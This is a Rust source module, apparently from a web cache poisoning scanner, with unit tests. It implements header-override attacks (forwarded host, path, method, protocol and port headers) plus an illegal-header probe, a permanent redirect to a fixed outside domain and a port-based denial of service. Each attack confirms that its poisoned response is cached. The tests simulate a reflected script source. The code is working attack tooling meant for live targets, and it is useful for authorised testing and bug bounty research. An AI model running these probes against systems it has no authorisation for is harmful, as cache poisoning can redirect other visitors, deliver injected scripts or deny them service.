use super::AttackSession;
use crate::http::{random_lowercase, HeaderPair};
use crate::models::host_of;
use crate::search::engine::DEFAULT_CHUNK_SIZE;
use crate::search::{confirm_cached, header_search, oracle, Oracle};

/// A catalogue attack: candidate headers, how to probe them, and how to judge the answer.
struct HeaderAttack {
    candidates: Vec<HeaderPair>,
    oracle: Oracle,
    chunk_size: usize,
    normalize_headers: bool,
    special_headers: bool,
    requires_ok_baseline: bool,
}

impl HeaderAttack {
    fn new(candidates: Vec<HeaderPair>, oracle: Oracle) -> Self {
        Self {
            candidates,
            oracle,
            chunk_size: DEFAULT_CHUNK_SIZE,
            normalize_headers: true,
            special_headers: true,
            requires_ok_baseline: false,
        }
    }

    /// Send header names verbatim and take over `Host`/`User-Agent`.
    fn raw(mut self) -> Self {
        self.normalize_headers = false;
        self.special_headers = false;
        self
    }

    fn on_ok_baseline(mut self) -> Self {
        self.requires_ok_baseline = true;
        self
    }
}

fn pairs(names: &[String], value: &str) -> Vec<HeaderPair> {
    names.iter().map(|n| (n.clone(), value.to_string())).collect()
}

/// Search, then confirm. Returns the names of headers whose effect is served from cache.
async fn run(session: &AttackSession<'_>, attack: HeaderAttack) -> Vec<String> {
    if attack.requires_ok_baseline && session.baseline.status != 200 {
        return Vec::new();
    }
    let _permit = session.acquire().await;

    let mut args = session.search_args(&session.target.url, attack.candidates, attack.oracle);
    args.chunk_size = attack.chunk_size;
    args.normalize_headers = attack.normalize_headers;
    args.special_headers = attack.special_headers;

    let found = header_search(&args).await.matches;
    if found.is_empty() {
        return Vec::new();
    }

    args.candidates = found;
    let decisions = confirm_cached(&args).await;
    args.candidates
        .into_iter()
        .zip(decisions)
        .filter(|(_, decision)| decision.keep)
        .map(|((name, _), _)| name)
        .collect()
}

pub async fn host_override(session: &AttackSession<'_>) -> Vec<String> {
    let host = format!("www.{}.com", random_lowercase(16));
    let mut candidates = pairs(&session.catalogues().host_override, &host);
    candidates.push(("Forwarded".into(), format!("host={host}")));
    candidates.push(("Host".into(), host));
    run(session, HeaderAttack::new(candidates, oracle::host_override).raw()).await
}

pub async fn path_override(session: &AttackSession<'_>) -> Vec<String> {
    let candidates = pairs(&session.catalogues().path_override, "/404doesntexist");
    run(
        session,
        HeaderAttack::new(candidates, oracle::status_code_modified).on_ok_baseline(),
    )
    .await
}

pub async fn illegal_header(session: &AttackSession<'_>) -> Vec<String> {
    let candidates = vec![("]".to_string(), "illegal-header-value".to_string())];
    let mut attack = HeaderAttack::new(candidates, oracle::status_code_modified).on_ok_baseline();
    attack.chunk_size = 1;
    attack.normalize_headers = false;
    run(session, attack).await
}

pub async fn method_override(session: &AttackSession<'_>) -> Vec<String> {
    let candidates = pairs(&session.catalogues().method_override, "HEAD");
    run(session, HeaderAttack::new(candidates, oracle::small_body).on_ok_baseline()).await
}

pub async fn protocol_override(session: &AttackSession<'_>) -> Vec<String> {
    let mut candidates = pairs(&session.catalogues().protocol_override, "http");
    candidates.push(("Forwarded".into(), "proto=http".into()));
    run(
        session,
        HeaderAttack::new(candidates, oracle::status_code_redirect).on_ok_baseline(),
    )
    .await
}

pub async fn port_override(session: &AttackSession<'_>) -> Vec<String> {
    let candidates = pairs(&session.catalogues().port_override, "80");
    run(
        session,
        HeaderAttack::new(candidates, oracle::status_code_modified).on_ok_baseline(),
    )
    .await
}

pub async fn permanent_redirect(session: &AttackSession<'_>) -> Vec<String> {
    let host = "www.elbo7.com";
    let mut candidates = pairs(&session.catalogues().host_override, host);
    candidates.push(("Forwarded".into(), format!("host={host}")));
    run(session, HeaderAttack::new(candidates, oracle::location_header).raw()).await
}

pub async fn port_dos(session: &AttackSession<'_>) -> Vec<String> {
    let hostname = host_of(&session.target.url).unwrap_or_else(|| session.target.subdomain.hostname.clone());
    let host = format!("{hostname}:1337");
    let mut candidates = pairs(&session.catalogues().host_override, &host);
    candidates.push(("Forwarded".into(), format!("host={host}")));
    candidates.push(("Host".into(), host));
    run(session, HeaderAttack::new(candidates, oracle::port_dos).raw()).await
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::Attacker;
    use crate::config::HeaderCatalogues;
    use crate::http::{MockTransport, ProbeResponse};
    use crate::models::{Program, Subdomain, Target};
    use std::sync::Arc;
    use std::time::Duration;

    fn session_parts(mock: MockTransport) -> (Attacker, Arc<MockTransport>, Target) {
        let mock = Arc::new(mock);
        let attacker = Attacker::new(
            mock.clone(),
            Arc::new(HeaderCatalogues::default()),
            Duration::ZERO,
            "cachesnake-test",
        );
        let subdomain = Arc::new(Subdomain::new("a.com", Arc::new(Program::default())));
        (attacker, mock, Target::new("https://a.com/", subdomain))
    }

    fn session<'a>(attacker: &'a Attacker, target: &'a Target, baseline: &'a ProbeResponse) -> AttackSession<'a> {
        AttackSession {
            attacker,
            target,
            baseline,
            persistent_headers: Vec::new(),
        }
    }

    #[tokio::test]
    async fn test_host_override_reflected_and_cached() {
        let (attacker, mock, target) = session_parts(MockTransport::caching(|p| {
            let body = match p.header("X-Forwarded-Host") {
                Some(h) => format!("<script src=//{h}/app.js>"),
                None => "<script src=//a.com/app.js>".to_string(),
            };
            Ok(ProbeResponse::new(200, body))
        }));
        let baseline = ProbeResponse::new(200, "<script src=//a.com/app.js>");

        let found = host_override(&session(&attacker, &target, &baseline)).await;
        assert_eq!(found, vec!["X-Forwarded-Host"]);

        let probe = &mock.probes()[0];
        assert!(!probe.normalize_headers);
        assert!(!probe.special_headers);
        assert_eq!(probe.header("user-agent"), Some("cachesnake-test"));
    }

    #[tokio::test]
    async fn test_path_override_requires_ok_baseline() {
        let (attacker, mock, target) = session_parts(MockTransport::caching(|_| Ok(ProbeResponse::new(404, ""))));
        let baseline = ProbeResponse::new(302, "");
        assert!(path_override(&session(&attacker, &target, &baseline)).await.is_empty());
        assert_eq!(mock.probe_count(), 0);
    }

    #[tokio::test]
    async fn test_illegal_header_probed_alone() {
        let (attacker, mock, target) = session_parts(MockTransport::caching(|p| {
            let status = if p.has_header("]") { 400 } else { 200 };
            Ok(ProbeResponse::new(status, "page"))
        }));
        let baseline = ProbeResponse::new(200, "page");
        let found = illegal_header(&session(&attacker, &target, &baseline)).await;
        assert_eq!(found, vec!["]"]);
        // One search probe, then with / same key / control.
        assert_eq!(mock.probe_count(), 4);
        let first = &mock.probes()[0];
        assert!(!first.normalize_headers);
        assert!(first.special_headers);
    }

    #[tokio::test]
    async fn test_method_override_small_body() {
        let (attacker, _mock, target) = session_parts(MockTransport::caching(|p| {
            let body = if p.header("X-HTTP-Method-Override") == Some("HEAD") { "" } else { "<html>full page</html>" };
            Ok(ProbeResponse::new(200, body))
        }));
        let baseline = ProbeResponse::new(200, "<html>full page</html>");
        let found = method_override(&session(&attacker, &target, &baseline)).await;
        assert_eq!(found, vec!["X-HTTP-Method-Override"]);
    }

    #[tokio::test]
    async fn test_port_dos_on_redirecting_target() {
        let (attacker, _mock, target) = session_parts(MockTransport::caching(|p| {
            let host = p.header("X-Forwarded-Host").unwrap_or("a.com");
            Ok(ProbeResponse::new(302, "").with_header("Location", format!("https://{host}/login")))
        }));
        let baseline = ProbeResponse::new(302, "").with_header("Location", "https://a.com/login");
        let found = port_dos(&session(&attacker, &target, &baseline)).await;
        assert_eq!(found, vec!["X-Forwarded-Host"]);
    }

    #[tokio::test]
    async fn test_uncached_effect_not_reported() {
        let (attacker, _mock, target) = session_parts(MockTransport::new(|p| {
            let status = if p.has_header("X-Original-URL") { 404 } else { 200 };
            Ok(ProbeResponse::new(status, "page"))
        }));
        let baseline = ProbeResponse::new(200, "page");
        assert!(path_override(&session(&attacker, &target, &baseline)).await.is_empty());
    }
}
